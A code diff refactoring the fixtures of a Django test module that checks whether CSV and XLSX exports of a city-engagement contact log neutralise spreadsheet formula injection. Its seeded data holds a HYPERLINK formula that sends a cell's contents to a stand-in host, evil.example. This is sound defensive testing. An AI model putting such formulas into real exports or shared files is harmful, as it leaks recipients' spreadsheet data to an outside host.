@@ -18,7 +18,10 @@ from django.utils.text import slugify
 from django.utils.translation import gettext
 from wagtail.users.models import UserProfile
 
-from contacts.models import Organisation
+from cities.models import CityPage
+from cities.themes import original_themes
+from contacts.models import Contact, Organisation
+from tests import factories, helpers
 
 pytestmark = pytest.mark.django_db
 
@@ -56,34 +59,57 @@ def reader(client, staff_user):
     return read_in
 
 
-@pytest.fixture
-def log(make_city, contact_factory, engagement_factory, themes):
+def make_log():
     """A workshop with its follow-up done and a call without, in a Mexican city, with an organisation
     and a contact."""
-    city = make_city("Mérida", country="MX")
+    themes = list(original_themes().order_by("slug"))
+    city = factories.CityFactory(title="Mérida", country="MX")
     organisation = Organisation.objects.create(
         name="Alcaldía de Mérida", kind=Organisation.Kind.MUNICIPAL_GOVERNMENT, country="MX", city=city
     )
-    contact = contact_factory(
-        "José",
-        "Núñez",
+    contact = factories.ContactFactory(
+        given_name="José",
+        family_name="Núñez",
         organisation=organisation,
         city=city,
         preferred_language="pt",
         consent_basis="legitimate_interest",
         emails=["jose@merida.gob.mx"],
     )
-    engagement_factory(
-        "Taller de alfabetización",
-        [city],
+    factories.EngagementFactory(
+        title="Taller de alfabetización",
+        cities=[city],
         kind="workshop",
         follow_up_done=True,
         participants=[contact],
         organisations=[organisation],
         themes=[themes[0]],
     )
-    engagement_factory("Llamada de seguimiento", [city], kind="call", follow_up_done=False)
+    factories.EngagementFactory(
+        title="Llamada de seguimiento", cities=[city], kind="call", follow_up_done=False
+    )
     return {"city": city, "organisation": organisation, "contact": contact}
+
+
+@pytest.fixture(scope="module")
+def log_for_module(django_db_setup, django_db_blocker):
+    """make_log's records, made once for the module (a city page takes tenths of a second) and rolled
+    back after it; yields their pks."""
+    with helpers.rolled_back_after_module(django_db_blocker):
+        with translation.override("en"):  # as in a test (tests/conftest.py, english_by_default)
+            records = make_log()
+        yield {name: record.pk for name, record in records.items()}
+
+
+@pytest.fixture
+def log(db, log_for_module):
+    """make_log's city, organisation and contact, fetched afresh for each test (dangerous_log changes the
+    contact; each test's changes are rolled back after it)."""
+    return {
+        "city": CityPage.objects.get(pk=log_for_module["city"]),
+        "organisation": Organisation.objects.get(pk=log_for_module["organisation"]),
+        "contact": Contact.objects.get(pk=log_for_module["contact"]),
+    }
 
 
 def body(response):
@@ -205,45 +231,62 @@ def test_every_file_name_says_what_it_holds_and_the_day(reader, log, name, expor
     }
 
 
-@pytest.fixture
-def dangerous_log(log, make_city, engagement_factory):
-    """Text that staff, focal points or imports chose, each beginning with a formula character."""
+def make_dangerous_log(contact):
+    """Text that staff, focal points or imports chose, each beginning with a formula character, on top of
+    make_log's records (its contact, given here, changed)."""
     texts = {character: f'{character}HYPERLINK("http://evil.example/?"&A1)' for character in FORMULA_STARTS}
-    city = make_city(texts["@"], country="MX")
+    city = factories.CityFactory(title=texts["@"], country="MX")
     organisation = Organisation.objects.create(name=texts["="], kind="ngo", country="MX", city=city)
-    log["contact"].job_title = texts["-"]
-    log["contact"].organisation = organisation
-    log["contact"].save()
-    engagement_factory(
-        texts["+"],
-        [city],
+    contact.job_title = texts["-"]
+    contact.organisation = organisation
+    contact.save()
+    factories.EngagementFactory(
+        title=texts["+"],
+        cities=[city],
         summary=texts["\t"],
         outcome=texts["\r"],
-        participants=[log["contact"]],
+        participants=[contact],
         organisations=[organisation],
     )
     return texts
 
 
-@pytest.mark.parametrize("name", EXPORTS)
-def test_no_csv_cell_starts_a_formula(reader, dangerous_log, name):
-    headings, rows = export(reader("es"), name, "csv")
+@pytest.fixture(scope="class")
+def dangerous_log_for_class(log_for_module, django_db_blocker):
+    """make_dangerous_log's records, made once for the tests of the class and rolled back after them (the
+    other tests of the module must not see them); yields the texts."""
+    with helpers.rolled_back_after_module(django_db_blocker):
+        with translation.override("en"):  # as in a test (tests/conftest.py, english_by_default)
+            texts = make_dangerous_log(Contact.objects.get(pk=log_for_module["contact"]))
+        yield texts
 
-    cells = headings + [cell for row in rows for cell in row.values()]
-    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
-    written = {text: "'" + text for text in dangerous_log.values()}
-    assert set(written.values()) & set(cells) or name == BY_COUNTRY, "the text is still exported"
+
+@pytest.fixture
+def dangerous_log(db, dangerous_log_for_class):
+    """The texts of make_dangerous_log, whose records the tests of the class share."""
+    return dict(dangerous_log_for_class)
 
 
-@pytest.mark.parametrize("name", EXPORTS)
-def test_xlsx_cells_keep_the_text_as_text_not_as_a_formula(reader, dangerous_log, name):
-    response = reader("es").get(reverse(name), {"export": "xlsx"})
-    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
+@pytest.mark.usefixtures("dangerous_log_for_class")
+class TestNoCellStartsAFormula:
+    @pytest.mark.parametrize("name", EXPORTS)
+    def test_no_csv_cell_starts_a_formula(self, reader, dangerous_log, name):
+        headings, rows = export(reader("es"), name, "csv")
 
-    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
-    risky = [cell for cell in cells if cell.value.startswith(FORMULA_STARTS)]
-    assert risky or name == BY_COUNTRY, "the text is still exported"
-    assert all(cell.data_type == "s" for cell in risky)
+        cells = headings + [cell for row in rows for cell in row.values()]
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+        written = {text: "'" + text for text in dangerous_log.values()}
+        assert set(written.values()) & set(cells) or name == BY_COUNTRY, "the text is still exported"
+
+    @pytest.mark.parametrize("name", EXPORTS)
+    def test_xlsx_cells_keep_the_text_as_text_not_as_a_formula(self, reader, dangerous_log, name):
+        response = reader("es").get(reverse(name), {"export": "xlsx"})
+        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
+
+        cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+        risky = [cell for cell in cells if cell.value.startswith(FORMULA_STARTS)]
+        assert risky or name == BY_COUNTRY, "the text is still exported"
+        assert all(cell.data_type == "s" for cell in risky)
 
 
 # The cities app's exports: the themes' listing and the focal points' activity report.
